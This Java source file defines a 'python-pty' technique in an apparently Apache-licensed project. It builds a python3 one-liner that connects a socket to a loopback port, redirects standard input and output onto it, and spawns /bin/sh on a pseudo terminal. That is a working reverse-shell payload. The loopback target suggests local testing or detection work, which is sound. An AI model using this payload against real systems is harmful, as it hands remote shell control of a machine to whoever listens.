/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** The shell sees a terminal: python holds its master side and the socket. */
public final class PythonPty extends ReverseShell {
    /** Made by the service loader. */
    public PythonPty() {
        super(
                "python-pty",
                "python connects and starts a shell on a pseudo terminal with pty.spawn",
                List.of(List.of("python3")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        return List.of(stage.tool("python3"), "-c", """
                import os, pty, socket
                s = socket.create_connection(("127.0.0.1", %d))
                for fd in (0, 1, 2):
                    os.dup2(s.fileno(), fd)
                pty.spawn("/bin/sh")
                """.formatted(port));
    }
}
